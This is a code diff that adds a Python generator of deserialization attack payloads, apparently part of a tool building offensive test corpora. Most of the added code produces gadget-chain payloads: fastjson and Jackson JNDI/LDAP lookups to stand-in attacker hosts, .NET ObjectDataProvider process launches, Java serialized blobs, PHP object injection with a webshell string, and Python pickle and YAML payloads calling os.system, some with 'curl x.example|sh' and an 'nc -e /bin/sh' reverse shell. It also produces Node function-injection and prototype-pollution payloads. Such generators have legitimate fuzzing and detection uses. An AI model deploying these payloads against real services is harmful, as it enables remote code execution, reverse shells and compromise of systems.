@@ -311,3 +311,112 @@ def gen_traversal(rng: random.Random, n: int, unix_files: list[str]) -> list[Pay
             s += rng.choice(["%00", "%00.png", "?", "#", "%20"])
         out.append(Payload("path_traversal", s, "gen", f"trav-{fam}", "file"))
     return out
+
+
+# ----------------------------------------------------------------------------- deserialization
+
+_JAVA_GADGETS = ["com.sun.rowset.JdbcRowSetImpl", "java.net.Inet4Address", "java.net.Inet6Address", "java.net.URL",
+                 "org.apache.tomcat.dbcp.dbcp2.BasicDataSource", "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
+                 "org.springframework.context.support.ClassPathXmlApplicationContext", "ch.qos.logback.core.db.JNDIConnectionSource",
+                 "com.zaxxer.hikari.HikariConfig", "org.apache.xbean.propertyeditor.JndiConverter", "java.lang.AutoCloseable",
+                 "org.apache.commons.configuration.JNDIConfiguration", "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
+                 "org.apache.shiro.jndi.JndiObjectFactory", "com.alibaba.fastjson.JSONObject", "java.lang.Class",
+                 "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"]
+_DOTNET_GADGETS = ["System.Windows.Data.ObjectDataProvider, PresentationFramework", "System.Diagnostics.Process, System",
+                   "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install",
+                   "System.Web.Security.RolePrincipal, System.Web", "System.Security.Principal.WindowsIdentity, mscorlib",
+                   "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor",
+                   "System.Data.Services.Internal.ExpandedWrapper`2, System.Data.Services",
+                   "System.IO.FileSystemInfo, mscorlib", "System.Windows.Forms.BindingSource, System.Windows.Forms"]
+_PHP_CLASSES = ["Monolog\\Handler\\SyslogUdpHandler", "GuzzleHttp\\Cookie\\FileCookieJar", "Illuminate\\Broadcasting\\PendingBroadcast",
+                "Symfony\\Component\\Process\\Process", "Laminas\\Log\\Logger", "Swift_ByteStream_TemporaryFileByteStream",
+                "Requests_Utility_FilteredIterator", "Zend_Log", "yii\\db\\BatchQueryResult", "stdClass", "User", "Config", "Logger"]
+
+
+def _php_value(rng: random.Random, depth: int = 0) -> str:
+    r = rng.random()
+    if r < 0.4 or depth > 1:
+        v = rng.choice(["/etc/passwd", "system", "id", "<?php system($_GET['c']); ?>", "phpinfo", "/var/www/html/x.php", "1"])
+        return f's:{len(v)}:"{v}";'
+    if r < 0.6:
+        return f"i:{rng.randint(0, 99)};"
+    if r < 0.7:
+        return "b:1;"
+    cls = rng.choice(_PHP_CLASSES)
+    return f'O:{len(cls)}:"{cls}":1:{{s:4:"data";{_php_value(rng, depth + 1)}}}'
+
+
+def gen_deser(rng: random.Random, n: int, java_classes: list[str]) -> list[Payload]:
+    import base64
+    jcls = _JAVA_GADGETS + [c for c in java_classes if c.count(".") >= 2][:200]
+    fams = ["fastjson", "jackson", "dotnet", "java-bin", "php", "pickle", "yaml", "node"]
+    out = []
+    for i in range(n):
+        fam = fams[i % len(fams)]
+        host = rng.choice([f"{_rs(rng, 6)}.dnslog.example", "attacker.example:1389/a", "10.0.0.9:1099/Exploit", f"{_rs(rng, 5)}.oast.example"])
+        if fam == "fastjson":
+            cls = rng.choice(jcls)
+            prop = rng.choice([f'"dataSourceName":"ldap://{host}","autoCommit":true', f'"val":"{host}"', f'"asText":"rmi://{host}"',
+                               f'"configLocation":"http://{host}/x.xml"', '"_bytecodes":["yv66vgAAADQ"],"_name":"a","_tfactory":{}',
+                               f'"properties":{{"data_source":"ldap://{host}"}}', f'"jndiName":"ldap://{host}"'])
+            s = f'{{"@type":"{cls}",{prop}}}'
+            if rng.random() < 0.3:
+                s = f'{{"{_rs(rng, 3)}":{s}}}'
+            if rng.random() < 0.2:
+                s = s.replace('"@type"', rng.choice(['"\\u0040type"', '"@\\x74ype"', '"@type"']))
+        elif fam == "jackson":
+            cls = rng.choice(jcls)
+            s = rng.choice([f'["{cls}",{{"dataSourceName":"ldap://{host}","autoCommit":true}}]', f'["{cls}","ldap://{host}"]',
+                            f'{{"object":["{cls}",{{"jndiName":"rmi://{host}"}}]}}', f'{{"@class":"{cls}","url":"ldap://{host}"}}'])
+        elif fam == "dotnet":
+            cls = rng.choice(_DOTNET_GADGETS)
+            s = rng.choice([f'{{"$type":"{cls}","MethodName":"Start","ObjectInstance":{{"$type":"System.Diagnostics.Process, System"}}}}',
+                            f'{{"$type":"{cls}","Path":"file:///c:/x.dll"}}', f'{{"$type":"{cls}"}}',
+                            "AAEAAAD/////AQAAAAAAAAAMAgAAA" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(30, 90)))).decode(),
+                            f'<ObjectDataProvider MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>'])
+        elif fam == "java-bin":
+            cls = rng.choice(jcls).encode()
+            raw = b"\xac\xed\x00\x05" + rng.choice([b"sr\x00", b"sr\x00", b"ur\x00", b"sq\x00"]) + len(cls).to_bytes(1, "big") + cls + bytes(rng.getrandbits(8) for _ in range(rng.randint(16, 160)))
+            enc = rng.choice(["b64", "b64", "hex", "b64url", "gzip"])
+            if enc == "gzip":
+                import gzip
+                s = base64.b64encode(gzip.compress(raw)).decode()
+            elif enc == "hex":
+                s = raw.hex()
+            else:
+                s = (base64.urlsafe_b64encode if enc == "b64url" else base64.b64encode)(raw).decode()
+        elif fam == "php":
+            cls = rng.choice(_PHP_CLASSES)
+            k = rng.randint(1, 3)
+            body = "".join(f's:{len(f)}:"{f}";{_php_value(rng)}' for f in rng.sample(["file", "cmd", "events", "handler", "data", "path", "x"], k))
+            s = rng.choice([f'O:{len(cls)}:"{cls}":{k}:{{{body}}}', f'a:1:{{i:0;O:{len(cls)}:"{cls}":{k}:{{{body}}}}}',
+                            f'C:{len(cls)}:"{cls}":{len(body)}:{{{body}}}'])
+            if rng.random() < 0.35:
+                s = base64.b64encode(s.encode()).decode()
+        elif fam == "pickle":
+            cmd = rng.choice(["id", "touch /tmp/pwn", "curl x.example|sh", "whoami", "nc -e /bin/sh 10.0.0.9 4444"])
+            mod = rng.choice([("os", "system"), ("posix", "system"), ("subprocess", "check_output"), ("builtins", "eval"), ("__builtin__", "eval")])
+            r = rng.random()
+            if r < 0.4:
+                raw = f"c{mod[0]}\n{mod[1]}\n(S'{cmd}'\ntR.".encode()
+            else:
+                raw = (b"\x80" + bytes([rng.choice([2, 3, 4, 5])]) + b"\x95" + bytes([len(cmd) + 30]) + b"\x00" * 7 + b"\x8c" + bytes([len(mod[0])])
+                       + mod[0].encode() + b"\x94\x8c" + bytes([len(mod[1])]) + mod[1].encode() + b"\x94\x93\x94\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x94\x85\x94R\x94.")
+            s = base64.b64encode(raw).decode() if rng.random() < 0.8 else raw.decode("latin-1")
+        elif fam == "yaml":
+            s = rng.choice(['!!python/object/apply:os.system ["{c}"]', '!!python/object/new:subprocess.check_output [["{c}"]]',
+                            '!!python/object/apply:subprocess.Popen [["sh", "-c", "{c}"]]', "!!python/name:os.system",
+                            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{h}/"]]]]',
+                            "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? x\n: y",
+                            '!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: "ldap://{h}", autoCommit: true}}',
+                            "!ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList"])
+            s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example"])).replace("{h}", host).replace("{{", "{").replace("}}", "}")
+        else:
+            s = rng.choice(["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{c}')}()\"}",
+                            "_$$ND_FUNC$$_function(){return require('child_process').execSync('{c}')}()",
+                            '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"polluted":1}}}',
+                            '{"__proto__":{"shell":"/proc/self/exe","argv0":"{c}"}}', "__proto__[admin]=1",
+                            '{"a":{"__proto__":{"toString":"x"}}}', "constructor[prototype][isAdmin]=true"])
+            s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example|sh"]))
+        out.append(Payload("deserialization", s, "gen", f"deser-{fam}", rng.choice(["any", "cookie", "any"])))
+    return out
